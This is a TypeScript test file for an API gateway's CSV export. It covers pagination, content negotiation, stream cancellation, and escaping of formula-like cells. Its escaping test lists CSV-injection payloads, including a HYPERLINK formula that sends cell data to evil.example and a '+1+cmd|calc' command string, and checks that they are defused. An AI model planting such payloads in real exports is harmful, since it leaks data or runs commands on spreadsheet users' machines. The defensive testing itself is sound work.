import { once } from 'node:events';
import type { AddressInfo } from 'node:net';
import express from 'express';
import { TextStream } from '../../src/http/answer.js';
import { answerCsv } from '../../src/http/csv.js';
import type { PageRow } from '../../src/http/page.js';
import type { Call, Route } from '../../src/http/route.js';
import { send } from '../../src/http/send.js';
import { DEFAULT_TEAM_ID } from '../../src/teams/teams.service.js';
import { apiDocument } from '../support/api-document.js';
import { describedOperations } from '../support/described.js';
import { type Gateway, startGateway } from '../support/gateway.js';
import { afterAll, beforeAll, describe, expect, test } from '../support/jest.js';
import { openSocket } from '../support/raw-socket.js';
import { waitFor } from '../support/wait.js';
import { addressOfNothing, nameOf } from '../support/walk.js';

type AnyCall = Call<unknown, unknown, unknown>;

const CSV = { Accept: 'text/csv' };
/** Half of them are at Outfame: more than are read at once. */
const ACCOUNTS = 1_100;

let gateway: Gateway;
beforeAll(async () => {
  gateway = await startGateway({ accounts: ACCOUNTS });
  await gateway.connect('outfame');
});
afterAll(() => gateway.stop());

/** The cells of each line. */
function parse(text: string): string[][] {
  const lines: string[][] = [];
  let line: string[] = [];
  for (const [, quoted, plain = '', end = ''] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g,
  )) {
    line.push(quoted === undefined ? plain : quoted.replaceAll('""', '"'));
    if (end === ',') continue;
    lines.push(line);
    line = [];
  }
  return lines;
}
const csvOf = async (path: string) => {
  const reply = await gateway.root.get(path, CSV);
  expect([reply.status, reply.text]).toEqual([200, expect.anything()]);
  return reply;
};
/** Every item of a list, as JSON. */
async function itemsOf(path: string) {
  const items: ReturnType<typeof JSON.parse>[] = [];
  const address = new URL(path, gateway.url);
  address.searchParams.set('limit', '200');
  let hasNext = true;
  for (let page = 0; hasNext && page < 20; page++) {
    const { body } = await gateway.root.get(address.pathname + address.search);
    items.push(...body.data);
    hasNext = body.pagination.has_next;
    address.searchParams.set('cursor', body.pagination.next_cursor);
  }
  return items;
}
const valueAt = (item: object, column: string) =>
  column
    .split('.')
    .reduce((at: unknown, member) => (at as Record<string, unknown> | null)?.[member], item);
const cellOf = (value: unknown) => {
  if (value === null || value === undefined) return '';
  return typeof value === 'object' ? JSON.stringify(value) : String(value);
};

describe('a list as CSV', () => {
  test('has a line for every item of all pages, in their order, under the names of the fields', async () => {
    const path = '/v1/accounts?provider=outfame&order_by=username&order_direction=asc';
    const { text, headers } = await csvOf(path);
    expect(headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    expect(headers.get('content-disposition')).toBe('attachment; filename="accounts.csv"');
    expect(headers.get('cache-control')).toBe('no-store');
    expect(headers.get('vary')).toMatch(/\bAccept\b/);
    const [columns = [], ...lines] = parse(text);
    expect(columns).toEqual(expect.arrayContaining(['id', 'health.status', 'metrics.followers']));
    expect(columns).not.toContain('remote_data');
    const items = await itemsOf(path);
    expect(items.length).toBeGreaterThan(500);
    expect(lines).toEqual(
      items.map((item) => columns.map((column) => cellOf(valueAt(item, column)))),
    );
  });

  test('begins behind a cursor, and is refused with the cursor of another question', async () => {
    const first = await gateway.root.get('/v1/accounts?limit=200');
    const cursor = encodeURIComponent(first.body.pagination.next_cursor);
    const [, ...all] = parse((await csvOf('/v1/accounts')).text);
    const [, ...rest] = parse((await csvOf(`/v1/accounts?cursor=${cursor}`)).text);
    expect(rest).toEqual(all.slice(200));
    const other = `/v1/accounts?cursor=${cursor}&status=paused`;
    expect(await gateway.root.get(other, CSV)).toMatchObject({
      status: 422,
      body: { code: 'cursor_mismatch' },
    });
  });

  test('is what every list answers with the columns that its description tells', async () => {
    const found: string[] = [];
    const tell = describedOperations(apiDocument);
    const lists = gateway.app.routes.filter((route: Route) =>
      JSON.stringify(
        tell.find(route.method, route.path)?.description.responses[200] ?? {},
      ).includes('text/csv'),
    );
    const names = lists.map(nameOf);
    for (const name of ['accounts', 'accounts/health', 'health/changes', 'events', 'audit'])
      expect(names).toContain(`GET /v1/${name}`);
    expect(names).toContain('GET /v1/disconnects/{id}/steps');
    for (const route of lists) {
      const reply = await gateway.root.get(addressOfNothing(route), CSV);
      if (reply.status === 404) continue;
      const told = tell.find('GET', route.path)?.description.responses[200].content['text/csv'];
      const type = reply.headers.get('content-type') ?? '';
      if (!type.startsWith('text/csv') || !reply.text.startsWith(told.example))
        found.push(`${nameOf(route)} ${reply.status} ${type} ${reply.text.slice(0, 200)}`);
    }
    expect(found).toEqual([]);
    const lacking = gateway.app.routes.filter(({ method, path }) => {
      const json = tell.find(method, path)?.description.responses[200]?.content?.[
        'application/json'
      ];
      return JSON.stringify(json ?? {}).includes('"has_next"') && !names.includes(`GET ${path}`);
    });
    // A provider's own pages.
    expect(lacking.map(nameOf)).toEqual(['GET /v1/accounts/{id}/activity']);
  });

  test('of a feed goes on from where it is told to', async () => {
    await gateway.settled();
    const page = await gateway.root.get('/v1/events?limit=200');
    const ids = page.body.data.map(({ id }: { id: string }) => id);
    const all = parse((await csvOf('/v1/events')).text).map(([id]) => id);
    expect(all.slice(1, 201)).toEqual(ids);
    expect(all.length).toBeGreaterThan(501);
    expect(new Set(all).size).toBe(all.length);
    const after = encodeURIComponent(page.body.pagination.next_cursor);
    const rest = parse((await csvOf(`/v1/events?after=${after}`)).text).map(([id]) => id);
    expect(rest.slice(1, 100)).toEqual(all.slice(201, 300));
  });

  test('is JSON where the caller would rather have that', async () => {
    for (const accept of ['*/*', 'application/json, text/csv', 'text/csv;q=0.5, application/*'])
      expect([accept, (await gateway.root.get('/v1/accounts', { Accept: accept })).body]).toEqual([
        accept,
        expect.objectContaining({ data: expect.anything() }),
      ]);
    expect((await gateway.root.get('/v1/whoami', CSV)).status).toBe(406);
    // Those that poll it unchanged are not answered with what others took.
    const { headers } = await gateway.root.get('/v1/accounts');
    await csvOf('/v1/accounts');
    const again = { 'If-None-Match': headers.get('etag') ?? '' };
    expect((await gateway.root.get('/v1/accounts', again)).status).toBe(304);
    expect((await gateway.root.get('/v1/accounts', { ...again, ...CSV })).status).toBe(200);
  });
});

describe('a text that a spreadsheet would take for a formula', () => {
  const HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    '+1+cmd|calc',
    '-2+3',
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
  ];
  const HARMLESS = ['a=1', 'a, "b"\r\nc', ' =1', "'=1", 'ü@x'];

  test('begins with an apostrophe; others, and numbers below zero, are as they were', async () => {
    const { database } = gateway;
    const { data } = (await gateway.root.get('/v1/accounts?limit=200')).body;
    const texts = [...HOSTILE, ...HARMLESS];
    for (const [index, text] of texts.entries())
      await database.pool.query(
        'UPDATE accounts SET display_name = $1, growth_rate_30d = -1.5 WHERE id = $2',
        [text, data[index].id],
      );
    const [columns = [], ...lines] = parse((await csvOf('/v1/accounts')).text);
    const cell = (index: number, column: string) =>
      lines.find((line) => line[0] === data[index].id)?.[columns.indexOf(column)];
    expect(texts.map((_, index) => cell(index, 'display_name'))).toEqual([
      ...HOSTILE.map((text) => `'${text}`),
      ...HARMLESS,
    ]);
    expect(cell(0, 'metrics.growth_rate_30d')).toBe('-1.5');
  });
});

test('a reader that takes nothing is waited for, and one that leaves is read for no longer', async () => {
  const gone = new AbortController();
  let reads = 0;
  let isOver = false;
  let isFull = () => false;
  const document = JSON.stringify({ id: 'x'.repeat(2_000) });
  const readAfter = async (_last: PageRow | undefined, limit: number) => {
    reads += 1;
    return Array.from({ length: limit }, () => ({ document, position: { value: null, id: 'x' } }));
  };
  const application = express().get('/v1/things', async (request, response) => {
    response.once('close', () => gone.abort());
    isFull = () => response.writableNeedDrain;
    const call = {
      signal: gone.signal,
      keyEnded: () => new AbortController().signal,
      url: 'http://x/v1/things',
    } as AnyCall;
    const answer = await answerCsv(call, ['id'], readAfter);
    const { chunks, contentType, ended } = answer.body as TextStream;
    async function* watched() {
      try {
        yield* chunks;
      } finally {
        isOver = true;
      }
    }
    send(request, response, { ...answer, body: new TextStream(watched(), contentType, ended) });
  });
  const server = application.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const { socket } = await openSocket(`http://127.0.0.1:${(server.address() as AddressInfo).port}`);
  socket.pause();
  socket.write('GET /v1/things HTTP/1.1\r\nHost: x\r\n\r\n');
  await waitFor('the socket to be full', () => isFull());
  const before = reads;
  socket.destroy();
  await waitFor('the list to be left', () => isOver);
  expect(reads).toBeLessThanOrEqual(before + 1);
  server.close();
  server.closeAllConnections();
});

describe('an answer that is under way', () => {
  const EVENTS = 2_000;
  const EVENT_BYTES = 20_000;
  beforeAll(async () => {
    await gateway.database.pool.query('DELETE FROM events');
    // More than any system holds for a reader that takes nothing.
    await gateway.database.pool.query(
      `INSERT INTO events (id, team_id, type, data, created_at)
       SELECT 'evt_' || lpad(n::text, 10, '0'), $1, 'account.updated',
         jsonb_build_object('filler', repeat('x', $2)), now()
       FROM generate_series(1, $3) AS n`,
      [DEFAULT_TEAM_ID, EVENT_BYTES, EVENTS],
    );
    await gateway.settled();
  });

  const underWay = async () => {
    const { text } = await gateway.root.get('/metrics');
    return Number(/^rollcall_http_requests_in_progress (\d+)$/m.exec(text)?.[1]);
  };

  /** Asks for more than fits, takes nothing of it until `end` has ended it there; then all that came. */
  async function endedBy(header: string, end: () => Promise<unknown>): Promise<string> {
    const { socket, ended } = await openSocket(gateway.url);
    socket.pause();
    const lines = [
      'GET /v1/events HTTP/1.1',
      `Host: ${new URL(gateway.url).host}`,
      'Accept: text/csv',
      header,
    ];
    socket.write(`${lines.join('\r\n')}\r\n\r\n`);
    await waitFor('the list to be asked for', underWay, { until: (count) => count === 1 });
    await end();
    await waitFor('the answer to be over', underWay, { until: (count) => count === 0 });
    socket.resume();
    return ended;
  }

  test.each(['its key is revoked', 'its session is ended'])(
    'breaks off when %s',
    async (reason) => {
      const made = await gateway.root.post('/v1/keys', { name: reason, scopes: ['read'] });
      const { id, key } = made.body.data;
      let header = `Authorization: Bearer ${key}`;
      let ended = `/v1/keys/${id}`;
      if (reason === 'its session is ended') {
        const session = await gateway.root.post('/console/session', { key });
        expect(session.status).toBe(201);
        header = `Cookie: ${session.headers.get('set-cookie')?.split(';')[0]}`;
        ended = `/v1/sessions/${session.body.data.id}`;
      }
      const text = await endedBy(header, async () => {
        expect((await gateway.root.delete(ended)).status).toBe(204);
      });
      expect(text).toMatch(/^HTTP\/1.1 200/);
      expect(text).toContain('"account.updated"');
      // The chunk that says that there is no more.
      expect(text.endsWith('0\r\n\r\n')).toBe(false);
      expect(text.split('"account.updated"').length).toBeLessThan(EVENTS);
    },
  );
});
